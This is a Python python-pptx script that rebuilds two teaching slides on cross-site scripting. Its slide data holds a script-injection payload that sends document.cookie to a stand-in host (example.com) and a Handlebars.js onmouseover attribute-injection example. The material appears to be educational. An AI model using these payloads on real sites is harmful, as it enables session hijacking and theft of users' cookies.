

from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.text import MSO_ANCHOR as Anchor, PP_ALIGN as Align
from pptx.oxml.ns import qn
from pptx.util import Inches, Pt

FONT = "Calibri"
COLORS = {"text": "000000", "alert": "FF0000", "footer": "8C8C8C",
          "white": "FFFFFF", "header": "4F81BD", "body": "D0D8E8"}
WIDTH, HEIGHT = Inches(10), Inches(7.5)
MARGIN = WIDTH // 20
CONTENT = WIDTH - 2 * MARGIN
FOOTER_WIDTH = Inches(2.33)
HEADER_HEIGHT = Inches(0.41)
DATE = "16-Feb-16"
HEADINGS = ["HTML Code", "Malicious String", "Result"]
EMPHASIS = "*"

SLIDES = [
    {"title": "XSS", "number": "15", "body_height": 2.2, "cells": [
        ["<input value=“*userInput*”>"],
        ["><script>",
         "window.location='http://example.com/?cookie='+document.cookie",
         "</script><input value="],
        ["<input value=“*>*",
         "*<script>*window.location='http://example.com/?cookie='"
         "+document.cookie*</script>*",
         "*<input value=*”>"]]},
    {"title": "Handlebars.js XSS", "number": "17", "body_height": 1.6, "cells": [
        ["<a href src={{foo}}>Click me!</a>"],
        ["www.example.com onmouseover=alert('HA!')"],
        ["<a href src=www.example.com onmouseover=alert('HA!')> Click me!</a>"]]},
]


def add_span(para, text, size, color, bold=False):
    """Add one formatted run to a paragraph."""
    span = para.add_run()
    span.text = text
    span.font.name, span.font.size, span.font.bold = FONT, Pt(size), bold
    span.font.color.rgb = RGBColor.from_string(COLORS[color])


def add_title(page, text):
    """Place the slide title in its placeholder."""
    title = page.shapes.title
    title.left, title.top = MARGIN, Inches(0.3)
    title.width, title.height = CONTENT, HEIGHT // 6
    title.text_frame.vertical_anchor = Anchor.MIDDLE
    para = title.text_frame.paragraphs[0]
    para.alignment = Align.CENTER
    add_span(para, text, 44, "text")


def add_footer(page, text, left, align):
    """Add a grey footer text at the bottom of the slide."""
    box = page.shapes.add_textbox(left, Inches(6.95), FOOTER_WIDTH, Inches(0.4))
    frame = box.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = Anchor.MIDDLE
    frame.paragraphs[0].alignment = align
    add_span(frame.paragraphs[0], text, 12, "footer")


def set_borders(cell, top, bottom):
    """Draw white borders with the given top and bottom widths in points."""
    properties = cell._tc.get_or_add_tcPr()
    for side, width in (("L", 1), ("R", 1), ("T", top), ("B", bottom)):
        line = SubElement(properties, qn(f"a:ln{side}"), w=str(Pt(width)))
        fill = SubElement(line, qn("a:solidFill"))
        SubElement(fill, qn("a:srgbClr"), val=COLORS["white"])


def fill_cell(cell, lines, is_header):
    """Fill a table cell with paragraphs, reddening the marked parts."""
    set_borders(cell, *((1, 3) if is_header else (3, 1)))
    cell.fill.solid()
    cell.fill.fore_color.rgb = RGBColor.from_string(
        COLORS["header" if is_header else "body"])
    frame = cell.text_frame
    for index, line in enumerate(lines):
        para = frame.add_paragraph() if index else frame.paragraphs[0]
        for part, text in enumerate(line.split(EMPHASIS)):
            marked = part % 2 == 1
            color = "white" if is_header else "alert" if marked else "text"
            if text:
                add_span(para, text, 18, color, is_header or marked)


def add_attack_table(page, cells, body_height):
    """Add the table of code, malicious string and result."""
    body = Inches(body_height)
    table = page.shapes.add_table(2, len(HEADINGS), MARGIN, Inches(2.43),
                                  CONTENT, HEADER_HEIGHT + body).table
    table.rows[0].height, table.rows[1].height = HEADER_HEIGHT, body
    for column, (heading, lines) in enumerate(zip(HEADINGS, cells)):
        table.columns[column].width = CONTENT // len(HEADINGS)
        fill_cell(table.cell(0, column), [heading], True)
        fill_cell(table.cell(1, column), lines, False)


def main():
    """Build and save the deck."""
    deck = Presentation()
    deck.slide_width, deck.slide_height = WIDTH, HEIGHT
    for content in SLIDES:
        page = deck.slides.add_slide(deck.slide_layouts.get_by_name("Title Only"))
        add_title(page, content["title"])
        add_attack_table(page, content["cells"], content["body_height"])
        add_footer(page, DATE, MARGIN, Align.LEFT)
        add_footer(page, content["number"], WIDTH - MARGIN - FOOTER_WIDTH, Align.RIGHT)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
